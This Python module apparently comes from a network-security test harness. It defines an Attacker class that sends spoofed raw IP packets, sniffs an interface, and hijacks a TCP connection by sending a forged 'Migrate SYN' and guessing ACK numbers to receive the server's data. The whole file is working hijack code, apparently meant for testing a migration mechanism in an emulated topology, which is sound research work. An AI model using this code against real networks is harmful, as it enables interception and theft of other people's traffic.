"""An attacker on a host of the topology: sends what it likes, and hears what comes to its network."""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from scenarios.attack_packets import ACK, RST, SYN, End, Seen, heard, migrate_syn, segment
from topologies.nodes import Host

_ALL_PROTOCOLS = 3
_BUFFER = 16 << 20
_OUTGOING = 4
_STEP, _GUESSES = 1448, 8
_SO_RCVBUFFORCE = 33


@dataclass(frozen=True)
class Loot:
    """What an attacker got by a Migrate SYN of its own."""

    answer: Seen | None
    """The SYN/ACK; None where none came."""
    refused: bool
    """A RST came instead."""
    data: bytes
    """What was sent to it afterwards, from the first byte on."""


class Attacker:
    """Raw sockets in the attacker's namespace."""

    def __init__(self, host: Host, interface: str) -> None:
        self._host, self._interface = host, interface

    def send(self, packets: Sequence[bytes], gap: float = 0.0) -> int:
        """Sends these IP packets, whosever their source; how many."""
        four = packets[0][0] >> 4 == 4
        with self._host.entered():
            raw = socket.socket(socket.AF_INET if four else socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        with raw:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _BUFFER)
            for packet in packets:
                target = packet[16:20] if four else packet[24:40]
                raw.sendto(packet, (str(ipaddress.ip_address(target)), 0))
                if gap:
                    time.sleep(gap)
        return len(packets)

    @contextlib.contextmanager
    def listening(self, interface: str = "") -> Iterator[Callable[[float], Iterator[Seen]]]:
        """What arrives on an interface: call it with the seconds of silence after which it ends."""
        with self._host.entered():
            ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL_PROTOCOLS))
        with ear:
            ear.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, _BUFFER)
            ear.bind((interface or self._interface, _ALL_PROTOCOLS))

            def hear(silence: float) -> Iterator[Seen]:
                end = time.monotonic() + silence
                while (left := end - time.monotonic()) > 0:
                    ear.settimeout(left)
                    try:
                        frame, (_, _, kind, _, _) = ear.recvfrom(65535)
                    except TimeoutError:
                        return
                    if kind != _OUTGOING and (seen := heard(frame)):
                        end = time.monotonic() + silence
                        yield seen

            yield hear

    def take_over(self, own: End, server: End, seq: int, option: bytes, wanted: int, patience: float) -> Loot:
        """Sends a Migrate SYN from `own`; if it is answered, goes on as the mover would, until it has `wanted` bytes.

        Its segments have no timestamps, which Linux takes: so it need not know the victim's clock."""
        with self.listening() as hear:
            self.send([migrate_syn(own, server, seq, option)])
            return self.follow(hear, own, server, wanted, patience)

    def follow(
        self, hear: Callable[[float], Iterator[Seen]], own: End, server: End, wanted: int, patience: float
    ) -> Loot:
        """The rest of it, once the Migrate SYN has left."""
        answer: Seen | None = None
        data = b""
        next_byte: int | None = None
        for seen in hear(patience):
            if seen.target != own or seen.source != server:
                continue
            if seen.flags & RST:
                return Loot(answer, answer is None, data)
            if seen.flags & (SYN | ACK) == SYN | ACK:
                answer = seen
                # The victim may have acknowledged more meanwhile, and the attacker does not know how much: it tries.
                guesses = [seen.seq + 1 + step * _STEP for step in range(_GUESSES)]
                self.send([segment(own, server, ACK, answer.ack, guess, window=32000) for guess in guesses])
            elif answer and seen.payload and next_byte in (None, seen.seq):
                data += seen.payload
                next_byte = (seen.seq + len(seen.payload)) % (1 << 32)
            if answer and next_byte is not None:
                self.send([segment(own, server, ACK, answer.ack, next_byte, window=32000)])
            if len(data) >= wanted:
                break
        return Loot(answer, False, data)
